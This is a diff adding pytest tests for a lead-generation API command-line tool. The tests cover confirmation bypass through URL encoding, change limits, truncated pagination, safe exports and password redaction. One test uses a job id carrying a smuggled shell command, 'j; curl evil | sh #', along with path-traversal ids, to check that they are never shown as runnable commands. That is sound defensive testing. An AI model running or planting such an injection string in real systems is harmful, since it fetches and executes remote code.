@@ -174,3 +174,148 @@ def test_a_rehearsal_of_what_cannot_be_rehearsed_is_refused_and_does_nothing(
     before = (sandboxed / "credentials.json").read_bytes()
     assert lgp(*argv, "--dry-run", stdin="lgp_" + "1" * 64).code == 2
     assert (sandboxed / "credentials.json").read_bytes() == before
+
+
+MANY = [f"lead_{number}" for number in range(60)]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("POST", "/sequences/s1/%65nroll", "--data", json.dumps({"leadIds": MANY})),
+        ("POST", "/sequences/s1/enroll", "--no-check", "--data", json.dumps({"ids": [], "leadIds": MANY})),
+        ("DELETE", "/leads/batch", "--data", json.dumps({"ids": ["a"]})),
+        ("DELETE", "/leads/b%61tch", "--data", json.dumps({"ids": ["a"]})),
+    ],
+)
+def test_no_spelling_gets_round_yes(api_call: Run, served: FaultServer, argv: tuple[str, ...]) -> None:
+    ran = api_call(*argv)
+    assert (ran.code, ran.error["code"], served.requests) == (2, "needs_yes", [])
+
+
+@pytest.mark.parametrize("body", [{"ids": [], "leadIds": MANY}, {"ids": ["a"], "leadIds": MANY[:6]}, MANY])
+def test_no_shape_of_a_body_gets_round_max_changes(
+    api_call: Run, served: FaultServer, monkeypatch: pytest.MonkeyPatch, body: Any
+) -> None:
+    monkeypatch.setenv("LGP_MAX_CHANGES", "5")
+    ran = api_call("POST", "/leads/batch", "--no-check", "--data", json.dumps(body))
+    assert (ran.code, ran.error["code"], served.requests) == (2, "too_many_changes", [])
+
+
+@pytest.mark.parametrize("name", ["no/such/x", "."])
+def test_an_ids_out_that_cannot_be_written_is_told_first(
+    lgp: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    ran = lgp("leads", "status", "--ids", "a", "b", "--status", "new", "--ids-out", name)
+    assert (ran.code, served.requests) == (9, [])
+
+
+def test_a_result_is_printed_even_when_its_ids_cannot_be_written(
+    lgp: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from commands.runners import many
+    from leadgenius.errors import LocalError
+
+    def full(path: Path) -> Any:
+        raise LocalError("full", code="disk")
+
+    monkeypatch.setattr(many, "whole_file", full)
+    ran = lgp("leads", "status", "--ids", "a", "b", "--status", "new", "--ids-out", str(tmp_path / "x"))
+    assert (ran.code, ran.json()["applied"]) == (9, 2)
+
+
+@pytest.mark.parametrize("job", ["a/b", "../x", "j; curl evil | sh #", "{lgp}"])
+@pytest.mark.parametrize("ids", [["l1"], [f"l{number}" for number in range(501)]])
+def test_a_job_with_a_strange_id_is_running_and_never_a_command(
+    lgp: Run, monkeypatch: pytest.MonkeyPatch, job: str, ids: list[str], clock: Any
+) -> None:
+    with FaultServer([faults.answer(body={"success": True, "jobId": job})]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
+        ran = lgp("leads", "enrich", "--ids", *ids, "--wait", "--wait-time", "1s")
+    assert ran.code == 10
+    assert f"enrichment status {job}" not in ran.err
+    assert "python3 scripts/lgp.py --wait" not in ran.err
+
+
+@pytest.mark.parametrize(
+    "answer", [{"success": True}, {"jobId": "j", "data": {"status": "completed", "result": "x"}}, [1]]
+)
+def test_a_report_without_a_report_is_no_success(
+    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, answer: Any, clock: Any
+) -> None:
+    with FaultServer([faults.answer(body=answer)]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
+        argv = ("--type", "leads", "--report-format", "csv", "--wait", "--out", str(tmp_path / "r.csv"))
+        ran = lgp("analytics", "report", *argv)
+    assert ran.code in (7, 8)
+    assert not (tmp_path / "r.csv").exists()
+
+
+@pytest.mark.parametrize(
+    "odd",
+    [
+        {"period": []},
+        {"velocity": []},
+        {"velocity": {"averageDaysToQualify": 10**400}},
+        {"stages": [{"count": 10**400}]},
+        {"stages": [{"count": 1, "conversionRate": 10**400}]},
+        {"stages": [{"count": -1}]},
+    ],
+)
+def test_an_odd_funnel_is_shown_as_it_came(lgp: Run, monkeypatch: pytest.MonkeyPatch, odd: dict[str, Any]) -> None:
+    body = {"data": {"stages": [{"stage": "new", "count": 1}], "period": {}, "velocity": {}, **odd}}
+    with FaultServer([faults.answer(body=json.dumps(body))]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
+        assert lgp("pipeline", "--format", "table").code == 0
+
+
+ROWS = [{"id": f"r{number}"} for number in range(100)]
+FULL = {"data": ROWS, "pagination": {"totalItems": 250, "totalPages": 3}}
+
+
+@pytest.mark.parametrize("end", [{}, [], {"data": []}, {"data": None}, ""])
+def test_a_list_that_ends_too_soon_is_never_called_complete(
+    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, end: Any
+) -> None:
+    with FaultServer([faults.answer(body=FULL), faults.answer(body=end)]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
+        ran = lgp("campaigns", "list", "--all", "--max-wait", "0")
+    told = ran.json()
+    assert (told["complete"], len(told["data"])) == (False, 100)
+    assert ran.code == 7 or any("ended before" in note["message"] for note in ran.notes())
+
+
+@pytest.mark.parametrize("end", [{}, [], {"data": None}, ""])
+def test_an_export_that_breaks_off_leaves_the_old_file(
+    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, end: Any
+) -> None:
+    target = tmp_path / "leads.jsonl"
+    target.write_text("old")
+    with FaultServer([faults.answer(body={"data": ROWS, "nextToken": "t"}), faults.answer(body=end)]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_AMPLIFY_API_KEY", "da2-" + "a" * 26)
+        argv = ("enrich-leads", "list", "--company-id", "c", "--all", "--out", str(target), "--max-wait", "0")
+        ran = lgp(*argv)
+    assert (ran.code, ran.out, target.read_text()) == (7, "", "old")
+
+
+@pytest.mark.parametrize("body", [{}, {"success": True}, ""])
+def test_one_page_without_rows_is_a_failure_of_the_server(lgp: Run, monkeypatch: pytest.MonkeyPatch, body: Any) -> None:
+    with FaultServer([faults.answer(body=body)]) as server:
+        monkeypatch.setenv("LGP_BASE_URL", server.origin)
+        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
+        assert (lgp("campaigns", "list").code, lgp("leads", "list").out) == (7, "")
+
+
+def test_a_password_typed_into_a_raw_login_is_blotted_out(api_call: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    refusal = {"success": False, "error": "no such pair: a@b.example hunter2hunter2", "code": "UNAUTHORIZED"}
+    with FaultServer([faults.answer(401, refusal)]) as server:
+        argv = ("POST", "/epsimo-auth", "--data", '{"email":"a@b.example","password":"hunter2hunter2"}')
+        ran = api_call("--base-url", server.origin, *argv)
+    assert ran.code == 3
+    assert "hunter2hunter2" not in ran.err + ran.out
